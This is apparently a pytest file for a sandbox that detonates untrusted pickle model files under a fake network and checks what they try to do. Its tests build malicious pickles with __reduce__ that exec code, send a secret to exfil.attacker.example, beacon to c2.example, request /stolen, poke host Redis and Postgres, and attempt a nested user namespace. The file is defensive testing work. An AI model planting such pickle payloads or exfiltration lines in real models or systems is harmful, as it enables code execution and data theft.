"""The fake network inside the sandbox: real bwrap and strace, payloads built with __reduce__.

Every destination answers inside (AnyIP routes to loopback listeners), so a payload goes on
to show what it would send; the host's own services stay out of reach.
"""

from __future__ import annotations

import pickle
from pathlib import Path

import pytest
import redis
from sandbox_support import rule_ids, sandboxed

from mlgate.sandbox.inside.network import dns_response, parse_query
from mlgate.sandbox.service import SandboxRun

_ESCAPE_KEY = "mlgate-sandbox-escape"
# A DNS query for tunnel.example, type A, as on the wire (RFC 1035), id 0x1234.
_QUERY = b"\x124\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06tunnel\x07example\x00\x00\x01\x00\x01"


class _Exec:
    """A pickle that runs a Python snippet when loaded (dumping it runs nothing)."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.source,))


def _run_payload(tmp_path: Path, source: str, **options: object) -> SandboxRun:
    model = tmp_path / "payload.pkl"
    model.write_bytes(pickle.dumps(_Exec(source)))
    return sandboxed(model, "pickle", **options)


def _network_evidence(run: SandboxRun) -> str:
    return "\n".join(f.evidence for f in run.report.findings if f.rule_id == "MLG703")


def _sink_records(run: SandboxRun, category: str) -> list[tuple[str, ...]]:
    return [e.detail for e in run.events if e.source == "network" and e.category == category]


def test_exfiltration_names_the_resolved_host_and_the_bytes(tmp_path: Path) -> None:
    run = _run_payload(
        tmp_path,
        "import socket\n"
        "s = socket.create_connection(('exfil.attacker.example', 443), timeout=5)\n"
        "s.sendall(b'SECRET-123'); s.close()\n",
    )
    assert run.report.complete  # the payload ran to the end: nothing failed on it
    evidence = _network_evidence(run)
    assert "dns-query(exfil.attacker.example, A, 198.18.0.1)" in evidence
    assert "connect(exfil.attacker.example (198.18.0.1), 443, b'SECRET-123'" in evidence


def test_literal_address_http_request_and_dns_over_tcp_are_recorded(tmp_path: Path) -> None:
    run = _run_payload(
        tmp_path,
        "import socket\n"
        "s = socket.create_connection(('203.0.113.7', 8080), timeout=5)\n"
        "s.sendall(b'GET /stolen?k=v HTTP/1.0\\r\\nHost: 203.0.113.7\\r\\n\\r\\n')\n"
        "assert s.recv(100).startswith(b'HTTP/1.1 200')\n"
        f"q = {_QUERY!r}\n"
        "d = socket.create_connection(('127.0.0.1', 53), timeout=5)\n"
        "d.sendall(len(q).to_bytes(2, 'big') + q)\n"
        "r = d.recv(512)\n"
        "assert r[2:4] == q[:2] and r[-4:] == bytes([198, 18, 0, 1]), r\n",
    )
    assert run.report.complete  # the sink and the responder answered: the asserts held
    assert ("tunnel.example", "A", "198.18.0.1") in _sink_records(run, "dns")
    connections = _sink_records(run, "connection")
    assert connections[0][:2] == ("203.0.113.7", "8080")
    assert "GET /stolen?k=v HTTP/1.0" in connections[0][2]


def test_urllib_beacon_resolves_fetches_and_completes(tmp_path: Path) -> None:
    run = _run_payload(
        tmp_path,
        "import urllib.request\n"
        "assert urllib.request.urlopen('http://c2.example/beacon', timeout=5).status == 200\n",
    )
    assert run.report.complete
    assert ("c2.example", "A", "198.18.0.1") in _sink_records(run, "dns")
    (beacon,) = _sink_records(run, "connection")
    assert beacon[:2] == ("c2.example (198.18.0.1)", "80")
    assert beacon[2].startswith("b'GET /beacon HTTP/1.1")
    assert "MLG703" in rule_ids(run)


def test_host_services_stay_out_of_reach(tmp_path: Path) -> None:
    host_redis = redis.Redis(host="127.0.0.1", port=6379, socket_timeout=5)
    host_redis.delete(_ESCAPE_KEY)
    run = _run_payload(
        tmp_path,
        "import socket\n"
        "r = socket.create_connection(('127.0.0.1', 6379), timeout=5)\n"
        f"r.sendall(b'SET {_ESCAPE_KEY} 1\\r\\n'); r.close()\n"
        "socket.create_connection(('127.0.0.1', 5432), timeout=5).close()\n",
    )
    assert host_redis.exists(_ESCAPE_KEY) == 0
    connections = {c[1]: c for c in _sink_records(run, "connection")}
    assert connections["6379"][0] == "127.0.0.1"
    assert f"SET {_ESCAPE_KEY} 1" in connections["6379"][2]
    assert connections["5432"][:2] == ("127.0.0.1", "5432")
    assert f"SET {_ESCAPE_KEY} 1" in _network_evidence(run)


def test_new_user_namespaces_are_denied(tmp_path: Path) -> None:
    """Without --disable-userns (see isolation.bwrap_argv) the seccomp filter must refuse a
    nested user namespace: clone(CLONE_NEWUSER) gets EPERM, clone3 ENOSYS."""
    run = _run_payload(
        tmp_path,
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "assert libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) == -1\n"  # clone(NEWUSER|SIGCHLD)
        "assert ctypes.get_errno() == 1\n"
        "assert libc.syscall(435, 0, 0) == -1 and ctypes.get_errno() == 38\n",  # clone3
    )
    assert run.report.complete  # every assert inside held


@pytest.mark.parametrize("network", [False, True])
def test_benign_pickle_is_clean_with_or_without_network(tmp_path: Path, network: bool) -> None:
    model = tmp_path / "plain.pkl"
    model.write_bytes(pickle.dumps({"weights": [1.0, 2.0], "name": "tiny"}))
    run = sandboxed(model, "pickle", network=network)
    assert run.report.findings == ()
    assert run.report.complete
    assert run.seconds < 10


def test_dns_parser_answers_queries_and_refuses_the_rest() -> None:
    query = parse_query(_QUERY)
    assert query is not None and (query.name, query.qtype) == ("tunnel.example", 1)
    answer = dns_response(query, "198.18.0.9")
    assert (
        answer[:2] == b"\x124"
        and answer[6:8] == b"\x00\x01"
        and answer.endswith(bytes([198, 18, 0, 9]))
    )
    assert parse_query(_QUERY[:-3]) is None  # truncated question
    assert parse_query(b"\x12\x34\x81\x80" + _QUERY[4:]) is None  # a response, not a query
    assert parse_query(_QUERY[:12] + b"\xc0\x0c\x00\x01\x00\x01") is None  # pointer
    assert parse_query(_QUERY[:12] + b"\x3f" * 300) is None  # name past 255 bytes
